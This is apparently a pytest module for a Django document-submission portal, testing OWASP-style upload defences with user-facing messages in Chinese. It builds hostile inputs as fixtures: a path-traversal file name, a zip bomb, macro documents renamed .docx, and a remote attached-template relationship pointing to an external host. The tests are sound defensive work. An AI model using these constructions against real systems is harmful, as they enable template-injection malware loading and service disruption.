"""The upload rules (OWASP file upload): name, size, kind by bytes, bombs, encryption, storage."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.conftest import ROOT
from tests.portal.conftest import client_of, filled_docx, run_checks, upload
from toolkit.portal.submissions.models import Submission

CORPUS = ROOT / "tests" / "corpus" / "docx"


def _send(client, name: str, data: bytes):
    return client.post("/submissions/", {"file": SimpleUploadedFile(name, data, "application/octet-stream")})


def _checked(client) -> dict:
    run_checks()
    return client.get("/api/submissions").json()[0]


def test_a_wrong_extension_is_refused_at_once_saying_what_to_send(people) -> None:
    alpha = client_of(people["alpha"])
    response = _send(alpha, "案例.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
    page = response.content.decode()
    assert response.status_code == 400 and "SB041" not in page  # told in words, not codes
    assert "案例.doc" in page and "不是 Word 文档（.docx）" in page and "另存为" in page
    macro = _send(
        alpha,
        "宏.docm",
        (
            CORPUS / "poi__cddbc8__cpansearch.perl.org_src_tobyink_acme-rundoc-0.001_word-lib_hello_world.docm"
        ).read_bytes(),
    )
    assert macro.status_code == 400 and "启用宏的文档" in macro.content.decode()
    assert Submission.objects.count() == 0


def test_a_file_over_the_limit_is_refused_before_it_is_stored(people, settings) -> None:
    settings.MAX_UPLOAD_BYTES = 1024 * 1024
    response = _send(client_of(people["alpha"]), "大.docx", b"PK\x03\x04" + b"\0" * (1024 * 1024 + 10))
    assert response.status_code == 400 and "超过了上传上限 1 MB" in response.content.decode()
    assert Submission.objects.count() == 0


def test_the_original_is_kept_byte_for_byte_under_a_generated_name(people, template_of, tmp_path: Path) -> None:
    sent = filled_docx(template_of(people["alpha"]), tmp_path, "绿色 工厂（终稿）.docx")
    upload(client_of(people["alpha"]), sent, "../../etc/绿色 工厂（终稿）.docx")
    [item] = Submission.objects.all()
    assert item.original_name == "绿色 工厂（终稿）.docx"  # shown as sent, no path
    assert re.fullmatch(r"2021/[0-9a-f]{32}\.upload", item.stored_name)
    with default_storage.open(item.stored_name, "rb") as stored:
        assert stored.read() == sent.read_bytes()
    assert "绿色 工厂（终稿）.docx" in client_of(people["alpha"]).get("/submissions/").content.decode()
    assert client_of(people["alpha"]).get(f"/portal/uploads/{item.stored_name}").status_code == 404


def test_a_pdf_named_docx_gets_a_letter_saying_what_it_is(people) -> None:
    alpha = client_of(people["alpha"])
    _send(alpha, "案例.docx", b"%PDF-1.7\n" + b"0" * 500)
    item = _checked(alpha)
    assert item["status"] == "needs-changes" and [e["code"] for e in item["errors"]] == ["SB003"]
    assert "PDF" in item["errors"][0]["message"]
    assert "不是 Word 文档" in alpha.get(item["letter_url"]).content.decode()


def test_an_encrypted_document_gets_a_letter_on_removing_the_password(people) -> None:
    alpha = client_of(people["alpha"])
    _send(alpha, "加密.docx", (CORPUS / "poi__3005c0__bug53475-password-is-solrcell.docx").read_bytes())
    item = _checked(alpha)
    assert [e["code"] for e in item["errors"]] == ["SB019"] and "密码" in item["errors"][0]["hint"]


def test_a_zip_bomb_is_refused_before_it_expands(people, template_of) -> None:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template_of(people["alpha"]))) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        target.writestr("word/bomb.xml", b"<a>" + b" " * (40 * 1024 * 1024) + b"</a>")
    alpha = client_of(people["alpha"])
    _send(alpha, "炸弹.docx", buffer.getvalue())
    assert [e["code"] for e in _checked(alpha)["errors"]] == ["SB005"]


def test_a_form_naming_another_organisation_is_not_ingested(
    people, template_of, tmp_path: Path, edition_root: Path
) -> None:
    # organisation B's template, sent by organisation A's account
    alpha = client_of(people["alpha"])
    upload(alpha, filled_docx(template_of(people["beta"]), tmp_path, "冒名.docx"))
    item = _checked(alpha)
    assert [e["code"] for e in item["errors"]] == ["SB043"] and item["case"] is None
    assert not (edition_root / "editions/2021/submissions.toml").exists()


@pytest.mark.database
def test_several_files_at_once(people, template_of, tmp_path: Path) -> None:
    alpha = client_of(people["alpha"])
    template = template_of(people["alpha"])
    files = [
        SimpleUploadedFile(
            f"{n}.docx",
            filled_docx(
                template,
                tmp_path / str(n),
                f"{n}.docx",
                dict(__import__("tests.portal.conftest", fromlist=["FILLED"]).FILLED, 案例标题=f"案例{n}"),
            ).read_bytes(),
        )
        for n in range(3)
    ]
    assert alpha.post("/submissions/", {"file": files}).status_code == 302
    assert run_checks() == 3
    rows = alpha.get("/api/submissions").json()
    assert sorted(r["file"] for r in rows) == ["0.docx", "1.docx", "2.docx"]
    assert {r["status"] for r in rows} == {"received"} and len({r["case"] for r in rows}) == 3


def _repacked(source: bytes, changes: dict[str, bytes]) -> bytes:
    """The package ``source`` with parts added or replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename not in changes:
                new.writestr(info, old.read(info.filename))
        for name, data in changes.items():
            new.writestr(name, data)
    return buffer.getvalue()


def test_a_macro_enabled_document_renamed_docx_is_refused_by_its_content(people) -> None:
    alpha = client_of(people["alpha"])
    _send(alpha, "看似正常.docx", (CORPUS / "poi__c665d4__SimpleMacro.docm").read_bytes())
    item = _checked(alpha)
    assert [e["code"] for e in item["errors"]] == ["SB030"] and item["case"] is None
    assert "Word 文档（*.docx）" in item["errors"][0]["hint"]


def test_a_document_fetching_a_template_from_elsewhere_is_refused_saying_what_to_send(
    people, template_of, tmp_path: Path
) -> None:
    filled = filled_docx(template_of(people["alpha"]), tmp_path, "远程模板.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(filled)) as package:
        rels = (
            package.read("word/_rels/settings.xml.rels")
            if "word/_rels/settings.xml.rels" in package.namelist()
            else b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        )
    remote = (
        b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://203.0.113.7/t.dotm" TargetMode="External"/></Relationships>'
    )
    sent = _repacked(filled, {"word/_rels/settings.xml.rels": rels.replace(b"</Relationships>", remote)})
    alpha = client_of(people["alpha"])
    _send(alpha, "远程模板.docx", sent)
    item = _checked(alpha)
    assert [e["code"] for e in item["errors"]] == ["SB044"] and item["case"] is None
    assert "文档模板" in item["errors"][0]["message"] and "http://203.0.113.7/t.dotm" in item["errors"][0]["message"]
    assert "重新下载案例模板" in item["errors"][0]["hint"]
